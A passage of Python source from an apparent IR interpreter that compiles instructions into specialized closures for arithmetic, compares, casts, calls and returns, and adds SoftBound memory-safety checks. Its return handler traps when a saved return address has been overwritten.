                    st.instructions = n
                    if n > limit:
                        raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                    regs[uid] = folded
                    st.cost += cost
                    return nxt

            else:
                a_acc = engine.acc(instr.a)
                b_acc = engine.acc(instr.b)

                def op(frame, regs):
                    n = st.instructions + 1
                    st.instructions = n
                    if n > limit:
                        raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                    value = fn(int(a_acc(regs)), int(b_acc(regs))) & mask
                    if wrap_signed and value >= sbit:
                        value -= span
                    regs[uid] = value
                    st.cost += cost
                    return nxt

            return op

        a_acc = engine.acc(instr.a)
        b_acc = engine.acc(instr.b)

        if op_name in ("sdiv", "srem"):
            is_div = op_name == "sdiv"

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                a = a_acc(regs)
                b = b_acc(regs)
                if b == 0:
                    raise Trap(TrapKind.DIV_BY_ZERO, "integer division by zero")
                q = abs(a) // abs(b) * (1 if (a >= 0) == (b >= 0) else -1)
                value = (q if is_div else a - q * b) & mask
                if wrap_signed and value >= sbit:
                    value -= span
                regs[uid] = value
                st.cost += cost
                return nxt

        elif op_name in ("udiv", "urem"):
            is_div = op_name == "udiv"

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                ua = int(a_acc(regs)) & mask
                ub = int(b_acc(regs)) & mask
                if ub == 0:
                    raise Trap(TrapKind.DIV_BY_ZERO, "integer division by zero")
                value = (ua // ub if is_div else ua % ub) & mask
                if wrap_signed and value >= sbit:
                    value -= span
                regs[uid] = value
                st.cost += cost
                return nxt

        elif op_name == "lshr":

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                value = ((int(a_acc(regs)) & mask) >> (b_acc(regs) & 63)) & mask
                if wrap_signed and value >= sbit:
                    value -= span
                regs[uid] = value
                st.cost += cost
                return nxt

        elif op_name == "ashr":

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                value = (int(a_acc(regs)) >> (b_acc(regs) & 63)) & mask
                if wrap_signed and value >= sbit:
                    value -= span
                regs[uid] = value
                st.cost += cost
                return nxt

        elif op_name == "fdiv":

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                a = a_acc(regs)
                b = b_acc(regs)
                if b != 0.0:
                    value = a / b
                else:
                    value = (float("inf") if a > 0
                             else float("-inf") if a < 0 else float("nan"))
                regs[uid] = value
                st.cost += cost
                return nxt

        elif op_name in ("fadd", "fsub", "fmul"):
            kind = op_name

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                a = a_acc(regs)
                b = b_acc(regs)
                if kind == "fadd":
                    value = a + b
                elif kind == "fsub":
                    value = a - b
                else:
                    value = a * b
                regs[uid] = value
                st.cost += cost
                return nxt

        else:

            def op(frame, regs):
                raise Trap(TrapKind.UNREACHABLE, f"bad binop {op_name}")

        return op

    return make


#: Operand-type resolution for unsigned compares is the interpreter's
#: own helper — shared, not copied.
_operand_irtype = _operand_type


def _operand_may_be_float(operand):
    """True unless the operand's static IR type rules out a float value
    (symbols resolve to integer addresses; registers/constants carry
    their type)."""
    if isinstance(operand, SymbolRef):
        return False
    if isinstance(operand, (Register, Const)):
        return operand.type is None or operand.type.is_float
    return True


_PLAIN_PREDS = {
    "eq": "eq", "feq": "eq", "ne": "ne", "fne": "ne",
    "slt": "lt", "flt": "lt", "sle": "le", "fle": "le",
    "sgt": "gt", "fgt": "gt", "sge": "ge", "fge": "ge",
}
_UNSIGNED_PREDS = {"ult": "lt", "ule": "le", "ugt": "gt", "uge": "ge"}


def _cmp_evaluator(instr, engine):
    """Build ``fn(regs) -> bool`` for a cmp instruction (shared by the
    standalone cmp closure and the fused cmp+cbr superinstruction), with
    register/constant operand access inlined per variant."""
    pred = instr.pred
    ka, va = engine.spec(instr.a)
    kb, vb = engine.spec(instr.b)
    if pred in _UNSIGNED_PREDS:
        relation = _UNSIGNED_PREDS[pred]
        irtype = _operand_irtype(instr.a, instr.b)
        umask = (1 << (irtype.size * 8)) - 1
        if ka == "reg" and kb == "reg":
            ua, ub = va, vb
            if relation == "lt":
                return lambda regs: (int(regs.get(ua, 0)) & umask) < (int(regs.get(ub, 0)) & umask)
            if relation == "le":
                return lambda regs: (int(regs.get(ua, 0)) & umask) <= (int(regs.get(ub, 0)) & umask)
            if relation == "gt":
                return lambda regs: (int(regs.get(ua, 0)) & umask) > (int(regs.get(ub, 0)) & umask)
            return lambda regs: (int(regs.get(ua, 0)) & umask) >= (int(regs.get(ub, 0)) & umask)
        if ka == "reg" and kb == "const":
            ua, cb = va, int(vb) & umask
            if relation == "lt":
                return lambda regs: (int(regs.get(ua, 0)) & umask) < cb
            if relation == "le":
                return lambda regs: (int(regs.get(ua, 0)) & umask) <= cb
            if relation == "gt":
                return lambda regs: (int(regs.get(ua, 0)) & umask) > cb
            return lambda regs: (int(regs.get(ua, 0)) & umask) >= cb
        if ka == "const" and kb == "reg":
            ca, ub = int(va) & umask, vb
            if relation == "lt":
                return lambda regs: ca < (int(regs.get(ub, 0)) & umask)
            if relation == "le":
                return lambda regs: ca <= (int(regs.get(ub, 0)) & umask)
            if relation == "gt":
                return lambda regs: ca > (int(regs.get(ub, 0)) & umask)
            return lambda regs: ca >= (int(regs.get(ub, 0)) & umask)
        a_acc = engine.acc(instr.a)
        b_acc = engine.acc(instr.b)
        if relation == "lt":
            return lambda regs: (int(a_acc(regs)) & umask) < (int(b_acc(regs)) & umask)
        if relation == "le":
            return lambda regs: (int(a_acc(regs)) & umask) <= (int(b_acc(regs)) & umask)
        if relation == "gt":
            return lambda regs: (int(a_acc(regs)) & umask) > (int(b_acc(regs)) & umask)
        return lambda regs: (int(a_acc(regs)) & umask) >= (int(b_acc(regs)) & umask)
    relation = _PLAIN_PREDS.get(pred)
    if relation is None:
        def bad(regs):
            raise Trap(TrapKind.UNREACHABLE, f"bad cmp {pred}")

        return bad
    if ka == "reg" and kb == "reg":
        ua, ub = va, vb
        if relation == "eq":
            return lambda regs: regs.get(ua, 0) == regs.get(ub, 0)
        if relation == "ne":
            return lambda regs: regs.get(ua, 0) != regs.get(ub, 0)
        if relation == "lt":
            return lambda regs: regs.get(ua, 0) < regs.get(ub, 0)
        if relation == "le":
            return lambda regs: regs.get(ua, 0) <= regs.get(ub, 0)
        if relation == "gt":
            return lambda regs: regs.get(ua, 0) > regs.get(ub, 0)
        return lambda regs: regs.get(ua, 0) >= regs.get(ub, 0)
    if ka == "reg" and kb == "const":
        ua, cb = va, vb
        if relation == "eq":
            return lambda regs: regs.get(ua, 0) == cb
        if relation == "ne":
            return lambda regs: regs.get(ua, 0) != cb
        if relation == "lt":
            return lambda regs: regs.get(ua, 0) < cb
        if relation == "le":
            return lambda regs: regs.get(ua, 0) <= cb
        if relation == "gt":
            return lambda regs: regs.get(ua, 0) > cb
        return lambda regs: regs.get(ua, 0) >= cb
    if ka == "const" and kb == "reg":
        ca, ub = va, vb
        if relation == "eq":
            return lambda regs: ca == regs.get(ub, 0)
        if relation == "ne":
            return lambda regs: ca != regs.get(ub, 0)
        if relation == "lt":
            return lambda regs: ca < regs.get(ub, 0)
        if relation == "le":
            return lambda regs: ca <= regs.get(ub, 0)
        if relation == "gt":
            return lambda regs: ca > regs.get(ub, 0)
        return lambda regs: ca >= regs.get(ub, 0)
    a_acc = engine.acc(instr.a)
    b_acc = engine.acc(instr.b)
    if relation == "eq":
        return lambda regs: a_acc(regs) == b_acc(regs)
    if relation == "ne":
        return lambda regs: a_acc(regs) != b_acc(regs)
    if relation == "lt":
        return lambda regs: a_acc(regs) < b_acc(regs)
    if relation == "le":
        return lambda regs: a_acc(regs) <= b_acc(regs)
    if relation == "gt":
        return lambda regs: a_acc(regs) > b_acc(regs)
    return lambda regs: a_acc(regs) >= b_acc(regs)


def _build_cmp(instr, index, offsets, block):
    uid = instr.dst.uid
    nxt = index + 1

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        test = _cmp_evaluator(instr, engine)

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            regs[uid] = 1 if test(regs) else 0
            st.cost += _COST_CMP
            return nxt

        return op

    return make


def _gep_evaluator(instr, engine):
    """Build ``fn(regs) -> address`` for a gep (shared by the standalone
    closure and the gep+load / gep+store superinstructions)."""
    ka, va = engine.spec(instr.base)
    kb, vb = engine.spec(instr.offset)
    if ka == "reg" and kb == "reg":
        ua, ub = va, vb
        return lambda regs: (int(regs.get(ua, 0)) + int(regs.get(ub, 0))) & _M64
    if ka == "reg" and kb == "const":
        ua, cb = va, int(vb)
        return lambda regs: (int(regs.get(ua, 0)) + cb) & _M64
    if ka == "const" and kb == "reg":
        ca, ub = int(va), vb
        return lambda regs: (ca + int(regs.get(ub, 0))) & _M64
    if ka == "const" and kb == "const":
        folded = (int(va) + int(vb)) & _M64
        return lambda regs: folded
    base_acc = engine.acc(instr.base)
    off_acc = engine.acc(instr.offset)
    return lambda regs: (int(base_acc(regs)) + int(off_acc(regs))) & _M64


def _build_gep(instr, index, offsets, block):
    uid = instr.dst.uid
    nxt = index + 1

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        ka, va = engine.spec(instr.base)
        kb, vb = engine.spec(instr.offset)
        no_floats = not (_operand_may_be_float(instr.base)
                         or _operand_may_be_float(instr.offset))

        if ka == "reg" and kb == "reg" and no_floats:
            ua, ub = va, vb

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                try:
                    regs[uid] = (regs[ua] + regs[ub]) & _M64
                except KeyError:
                    regs[uid] = (regs.get(ua, 0) + regs.get(ub, 0)) & _M64
                st.cost += _COST_GEP
                return nxt

        elif ka == "reg" and kb == "const" and no_floats:
            ua, cb = va, int(vb)

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                try:
                    regs[uid] = (regs[ua] + cb) & _M64
                except KeyError:
                    regs[uid] = (regs.get(ua, 0) + cb) & _M64
                st.cost += _COST_GEP
                return nxt

        else:
            addr_of = _gep_evaluator(instr, engine)

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                regs[uid] = addr_of(regs)
                st.cost += _COST_GEP
                return nxt

        return op

    return make


def _build_cast(instr, index, offsets, block):
    from ..ir.irtypes import I64

    kind = instr.kind
    uid = instr.dst.uid
    dst_type = instr.dst.type
    bits = dst_type.size * 8
    mask = (1 << bits) - 1
    span = 1 << bits
    sbit = 1 << (bits - 1)
    wrap_signed = dst_type.kind != "ptr"
    src_type = (instr.src.type
                if isinstance(instr.src, (Register, Const)) else I64)
    src_mask = (1 << (src_type.size * 8)) - 1
    nxt = index + 1

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        src_acc = engine.acc(instr.src)

        if kind in ("trunc", "sext", "bitcast", "ptrtoint", "inttoptr"):

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                value = int(src_acc(regs)) & mask
                if wrap_signed and value >= sbit:
                    value -= span
                regs[uid] = value
                st.cost += _COST_CAST
                return nxt

        elif kind == "zext":

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                value = (int(src_acc(regs)) & src_mask) & mask
                if wrap_signed and value >= sbit:
                    value -= span
                regs[uid] = value
                st.cost += _COST_CAST
                return nxt

        elif kind == "sitofp":

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                regs[uid] = float(int(src_acc(regs)))
                st.cost += _COST_CAST
                return nxt

        elif kind == "uitofp":

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                regs[uid] = float(int(src_acc(regs)) & src_mask)
                st.cost += _COST_CAST
                return nxt

        elif kind in ("fptosi", "fptoui"):

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                value = int(src_acc(regs)) & mask
                if wrap_signed and value >= sbit:
                    value -= span
                regs[uid] = value
                st.cost += _COST_CAST
                return nxt

        else:

            def op(frame, regs):
                raise Trap(TrapKind.UNREACHABLE, f"bad cast {kind}")

        return op

    return make


def _build_mov(instr, index, offsets, block):
    uid = instr.dst.uid
    nxt = index + 1

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        ks, vs = engine.spec(instr.src)

        if ks == "reg":
            su = vs

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                try:
                    regs[uid] = regs[su]
                except KeyError:
                    regs[uid] = 0
                return nxt  # mov costs 0 units

        elif ks == "const":
            cv = vs

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                regs[uid] = cv
                return nxt

        else:
            src_acc = engine.acc(instr.src)

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                regs[uid] = src_acc(regs)
                return nxt

        return op

    return make


def _build_memcopy(instr, index, offsets, block):
    size = instr.size
    ctype = instr.ctype
    cost = (OP_COSTS["memcopy.base"]
            + OP_COSTS["memcopy.per_8_bytes"] * max(size // 8, 1))
    nxt = index + 1

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        observers = engine.observers
        dst_acc = engine.acc(instr.dst_addr)
        src_acc = engine.acc(instr.src_addr)
        memory = engine.memory
        runtime = engine.machine.sb_runtime

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            dst = dst_acc(regs)
            src = src_acc(regs)
            if observers:
                for observer in observers:
                    observer.on_load(src, size)
                    observer.on_store(dst, size)
            memory.write(dst, memory.read(src, size))
            if runtime is not None:
                if runtime.observes_stores:
                    runtime.on_program_store(dst, size)
                runtime.copy_metadata(src, dst, size, ctype)
            st.cost += cost
            st.memory_ops += 2
            return nxt

        return op

    return make


# -- control flow -----------------------------------------------------------


def _build_br(instr, index, offsets, block):
    # In-function branches resolve to flat offsets at compile time and
    # never leave the inner dispatch loop.
    target = offsets[instr.label]

    def make(engine, function):
        st = engine.stats
        limit = engine.limit

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            st.cost += _COST_BR
            return target

        return op

    return make


def _build_cbr(instr, index, offsets, block):
    target_true = offsets[instr.true_label]
    target_false = offsets[instr.false_label]

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        kc, vc = engine.spec(instr.cond)

        if kc == "reg":
            uc = vc

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                try:
                    cond = regs[uc]
                except KeyError:
                    cond = 0
                st.cost += _COST_CBR
                return target_true if cond else target_false

        else:
            cond_acc = engine.acc(instr.cond)

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                st.cost += _COST_CBR
                return target_true if cond_acc(regs) else target_false

        return op

    return make


def _build_unreachable(instr, index, offsets, block):
    label = block.label

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        fname = function.name

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            raise Trap(TrapKind.UNREACHABLE, f"in {fname}/{label}")

        return op

    return make


def _build_ret(instr, index, offsets, block):
    value_operand = instr.value
    sb_meta = getattr(instr, "sb_meta", None)

    def make(engine, function):
        machine = engine.machine
        st = engine.stats
        limit = engine.limit
        read_u64 = engine.memory.scalar_reader(8, False)
        stack = engine.memory.stack
        stack_data = stack.data
        stack_base = stack.base
        stack_end = stack.end
        unpack_u64 = _SCALAR_CODECS[(8, False)].unpack_from
        addr_to_function = machine.addr_to_function
        frames = machine.frames
        if value_operand is None:
            value_acc = None
        elif isinstance(value_operand, Register):
            vu = value_operand.uid
            value_acc = lambda regs: regs.get(vu, 0)
        else:
            value_acc = engine.acc(value_operand)
        meta_accs = None
        if sb_meta is not None:
            meta_accs = tuple(engine.acc(v) for v in sb_meta)
        # Frame teardown specializes to a pop + sp restore when there is
        # nothing to notify: no observers, no metadata to clear.
        if not engine.observers and machine.sb_runtime is None:
            pop_frame = None
        else:
            pop_frame = machine._pop_frame

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            st.cost += _COST_RET
            value = value_acc(regs) if value_acc is not None else None
            meta_vals = None
            if meta_accs is not None:
                meta_vals = tuple(acc(regs) for acc in meta_accs)
            # Read the control data back from simulated memory — the
            # attack surface the Wilander suite exercises.  The frame
            # pointer normally sits in the stack segment (decode
            # inline); a corrupted saved FP can point anywhere, so fall
            # back to the trapping reader outside it.
            fp = frame.fp
            if stack_base <= fp and fp + 16 <= stack_end:
                off = fp - stack_base
                saved_fp = unpack_u64(stack_data, off)[0]
                ret_addr = unpack_u64(stack_data, off + 8)[0]
            else:
                saved_fp = read_u64(fp)
                ret_addr = read_u64(fp + 8)
            if ret_addr != frame.expected_ret:
                target = addr_to_function.get(ret_addr, "")
                kind = (TrapKind.CONTROL_FLOW_HIJACK if target
                        else TrapKind.WILD_JUMP)
                raise Trap(kind, "return address overwritten",
                           address=ret_addr, target_symbol=target)
            if pop_frame is None:
                frames.pop()
                machine.sp = frame.base + frame.size
            else:
                pop_frame()
            engine._ret_value = value
            engine._returned = True
            if not frames:
                return -1
            caller = frames[-1]
            if saved_fp != caller.fp:
                caller.fp = saved_fp
            dst_reg = frame.dst_reg
            if dst_reg is not None and value is not None:
                caller.regs[dst_reg.uid] = value
            dst_meta = frame.dst_meta
            if dst_meta is not None:
                if meta_vals is not None:
                    for i, reg in enumerate(dst_meta):
                        caller.regs[reg.uid] = (meta_vals[i]
                                                if i < len(meta_vals) else 0)
                else:
                    for reg in dst_meta:
                        caller.regs[reg.uid] = 0
            return -1

        return op

    return make


# -- calls ------------------------------------------------------------------


def _needs_signature_check(instr, function):
    """Whether the dynamic signature check (paper Section 5.2) applies
    to this call edge.  The check itself is delegated to
    ``Machine._check_call_signature`` so its semantics and trap message
    have exactly one definition."""
    return (getattr(instr, "sb_call_signature", None) is not None
            and getattr(function, "sb_signature", None) is not None)


def _build_call(instr, index, offsets, block):
    callee = instr.callee
    dst = instr.dst
    dst_meta = getattr(instr, "sb_dst_meta", None)
    call_cost = _COST_CALL + _COST_CALL_ARG * len(instr.args)
    nxt = index + 1
    cur_block = block  # setjmp records (block, flat index) at call sites

    def make(engine, function):
        machine = engine.machine
        st = engine.stats
        limit = engine.limit
        frames = machine.frames
        arg_accs = [engine.acc(a) for a in instr.args]
        site = machine._site_id(machine._call_site_key(function, instr))
        push_frame = machine._push_frame
        split_meta = machine._split_call_metadata
        has_sb = machine.sb_runtime is not None
        meta_arity = machine.sb_runtime.meta_arity if has_sb else 2
        libc_call = machine.libc.call
        functions = machine.module.functions

        target_name = callee
        if target_name is not None and has_sb and f"_sb_{target_name}" in functions:
            target_name = f"_sb_{target_name}"

        if target_name is not None and target_name in functions:
            # Direct call to a module function: everything about the
            # transfer is decidable now.
            target = functions[target_name]
            entry_block = target.entry
            has_sig = _needs_signature_check(instr, target)
            check_signature = machine._check_call_signature

            if (not has_sig and not has_sb and not engine.observers
                    and not target.varargs
                    and not getattr(target, "sb_extra_params", [])
                    and len(instr.args) == len(target.params)):
                # Fast transfer: frame push fully specialized — layout
                # constants, parameter registers and the saved-FP/RA
                # writes are all pre-bound; no metadata, no observers.
                layout, allocas, fp_off, ret_off, va_off = _frame_layout(target)
                frame_size = va_off
                param_uids = [p.register.uid for p in target.params]
                stack_seg = engine.memory.stack
                stack_data = stack_seg.data
                stack_base = stack_seg.base
                pack_u64 = _SCALAR_CODECS[(8, False)].pack_into
                target_fname = target.name
                new_frame_of = Frame.__new__

                # Parameter binding specialized by arity: small argument
                # lists become a dict display, larger ones a zip loop.
                nparams = len(param_uids)
                if nparams == 0:
                    def bind_args(regs):
                        return {}
                elif nparams == 1:
                    u0, a0 = param_uids[0], arg_accs[0]

                    def bind_args(regs):
                        return {u0: a0(regs)}
                elif nparams == 2:
                    (u0, u1), (a0, a1) = param_uids, arg_accs[:2]

                    def bind_args(regs):
                        return {u0: a0(regs), u1: a1(regs)}
                elif nparams == 3:
                    (u0, u1, u2), (a0, a1, a2) = param_uids, arg_accs[:3]

                    def bind_args(regs):
                        return {u0: a0(regs), u1: a1(regs), u2: a2(regs)}
                else:
                    def bind_args(regs):
                        return {uid: acc(regs)
                                for uid, acc in zip(param_uids, arg_accs)}

                def op(frame, regs):
                    n = st.instructions + 1
                    st.instructions = n
                    if n > limit:
                        raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                    st.calls += 1
                    st.cost += call_cost
                    new_regs = bind_args(regs)
                    base = machine.sp - frame_size
                    if base < stack_base:
                        raise Trap(TrapKind.STACK_OVERFLOW, target_fname)
                    new_frame = new_frame_of(Frame)
                    new_frame.function = target
                    new_frame.regs = new_regs
                    new_frame.base = base
                    new_frame.size = frame_size
                    fp = base + fp_off
                    new_frame.fp = fp
                    new_frame.expected_ret = site
                    new_frame.alloca_ctypes = allocas
                    new_frame.va_spill = 0
                    new_frame.va_bytes = 0
                    new_frame.va_ptr_count = 0
                    new_frame.va_metas = _EMPTY_VA_METAS
                    # Materialize saved FP and return address in
                    # simulated memory (the attackable control data);
                    # [fp, fp+16) is inside the stack segment by the
                    # overflow check above, so encode straight into it.
                    off = fp - stack_base
                    pack_u64(stack_data, off, frame.fp & _M64)
                    pack_u64(stack_data, off + 8, site)
                    machine.sp = base
                    frames.append(new_frame)
                    frame.index = nxt
                    new_frame.dst_reg = dst
                    new_frame.dst_meta = dst_meta
                    new_frame.caller_site = frame
                    new_frame.block = entry_block
                    new_frame.index = 0
                    return -1

                return op

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                st.calls += 1
                st.cost += call_cost
                args = [acc(regs) for acc in arg_accs]
                if has_sig:
                    check_signature(instr, target)
                frame.index = nxt  # resume after the call on return
                arg_metas = None
                if has_sb:
                    args, arg_metas = split_meta(args, instr, meta_arity)
                new_frame = push_frame(target, args, site, arg_metas)
                new_frame.dst_reg = dst
                new_frame.dst_meta = dst_meta
                new_frame.caller_site = frame
                new_frame.block = entry_block
                new_frame.index = 0
                return -1

            return op

        if target_name is not None:
            # Direct call to a builtin / libc routine.

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                st.calls += 1
                st.cost += call_cost
                args = [acc(regs) for acc in arg_accs]
                frame.block = cur_block
                frame.index = index  # setjmp records the call site
                machine._control_transferred = False
                result = libc_call(target_name, args, instr)
                if machine._control_transferred:
                    return -1
                if dst is not None:
                    if isinstance(result, tuple):
                        regs[dst.uid] = result[0]
                        if dst_meta is not None:
                            rest = result[1:]
                            for i, reg in enumerate(dst_meta):
                                regs[reg.uid] = rest[i] if i < len(rest) else 0
                    else:
                        regs[dst.uid] = result if result is not None else 0
                        if dst_meta is not None:
                            for reg in dst_meta:
                                regs[reg.uid] = 0
                return nxt

            return op

        # Indirect call: the target is a runtime value; resolution and
        # signature checking stay dynamic (cold path).
        callee_acc = engine.acc(instr.callee_reg)
        addr_to_function = machine.addr_to_function
        check_signature = machine._check_call_signature

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            st.calls += 1
            st.cost += call_cost
            args = [acc(regs) for acc in arg_accs]
            addr = int(callee_acc(regs))
            name = addr_to_function.get(addr)
            if name is None:
                raise Trap(TrapKind.WILD_JUMP,
                           "indirect call to non-code address", address=addr)
            if has_sb and f"_sb_{name}" in functions:
                name = f"_sb_{name}"
            if name in functions:
                target = functions[name]
                check_signature(instr, target)
                frame.index = nxt
                arg_metas = None
                if has_sb:
                    args, arg_metas = split_meta(args, instr, meta_arity)
                new_frame = push_frame(target, args, site, arg_metas)
                new_frame.dst_reg = dst
                new_frame.dst_meta = dst_meta
                new_frame.caller_site = frame
                new_frame.block = target.entry
                new_frame.index = 0
                return -1
            frame.block = cur_block
            frame.index = index
            machine._control_transferred = False
            result = libc_call(name, args, instr)
            if machine._control_transferred:
                return -1
            if dst is not None:
                if isinstance(result, tuple):
                    regs[dst.uid] = result[0]
                    if dst_meta is not None:
                        rest = result[1:]
                        for i, reg in enumerate(dst_meta):
                            regs[reg.uid] = rest[i] if i < len(rest) else 0
                else:
                    regs[dst.uid] = result if result is not None else 0
                    if dst_meta is not None:
                        for reg in dst_meta:
                            regs[reg.uid] = 0
            return nxt

        return op

    return make


# -- SoftBound runtime instructions -----------------------------------------


def _build_sb_check(instr, index, offsets, block):
    is_fnptr = instr.is_fnptr_check
    access_kind = instr.access_kind
    nxt = index + 1

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        ptr_acc = engine.acc(instr.ptr)
        base_acc = engine.acc(instr.base)
        bound_acc = engine.acc(instr.bound)
        size_acc = engine.acc(instr.size)
        runtime = engine.machine.sb_runtime
        check_cost = OP_COSTS[getattr(runtime, "check_cost_key", "sb.check")]
        # Profiling variants are specialized in only when a site profile
        # is attached (the detached closures below are the unprofiled
        # originals, byte for byte).  Recording sits after the budget
        # check and before the trap test — the same program point the
        # interpreter records at — so per-site counts match across
        # engines even on trapping and limit-capped runs.
        profile = engine.machine.site_profile
        if profile is not None:
            counts = profile.counts
            pkey = ("sb_check",) + tuple(site_of(instr))

        if is_fnptr:
            if profile is not None:

                def op(frame, regs):
                    n = st.instructions + 1
                    st.instructions = n
                    if n > limit:
                        raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                    counts[pkey] = counts.get(pkey, 0) + 1
                    ptr = ptr_acc(regs)
                    base = base_acc(regs)
                    bound = bound_acc(regs)
                    size_acc(regs)
                    st.checks += 1
                    st.cost += _COST_FNPTR
                    if not (ptr == base == bound) or ptr == 0:
                        raise Trap(TrapKind.FUNCTION_POINTER_VIOLATION,
                                   "indirect call through non-function pointer",
                                   address=ptr, source="softbound")
                    return nxt

                return op

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                ptr = ptr_acc(regs)
                base = base_acc(regs)
                bound = bound_acc(regs)
                size_acc(regs)
                st.checks += 1
                st.cost += _COST_FNPTR
                if not (ptr == base == bound) or ptr == 0:
                    raise Trap(TrapKind.FUNCTION_POINTER_VIOLATION,
                               "indirect call through non-function pointer",
                               address=ptr, source="softbound")
                return nxt

        elif profile is not None:

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                counts[pkey] = counts.get(pkey, 0) + 1
                ptr = ptr_acc(regs)
                base = base_acc(regs)
                bound = bound_acc(regs)
                size = size_acc(regs)
                st.checks += 1
                st.cost += check_cost
                if ptr < base or ptr + size > bound:
                    raise Trap(
                        TrapKind.SPATIAL_VIOLATION,
                        f"{access_kind} of {size} bytes outside "
                        f"[0x{base:x}, 0x{bound:x})",
                        address=ptr,
                        source="softbound",
                    )
                return nxt

        else:

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                ptr = ptr_acc(regs)
                base = base_acc(regs)
                bound = bound_acc(regs)
                size = size_acc(regs)
                st.checks += 1
                st.cost += check_cost
                if ptr < base or ptr + size > bound:
                    raise Trap(
                        TrapKind.SPATIAL_VIOLATION,
                        f"{access_kind} of {size} bytes outside "
                        f"[0x{base:x}, 0x{bound:x})",
                        address=ptr,
                        source="softbound",
                    )
                return nxt

        return op

    return make


def _build_sb_meta_load(instr, index, offsets, block):
    base_uid = instr.dst_base.uid
    bound_uid = instr.dst_bound.uid
    temporal = instr.dst_key is not None
    key_uid = instr.dst_key.uid if temporal else None
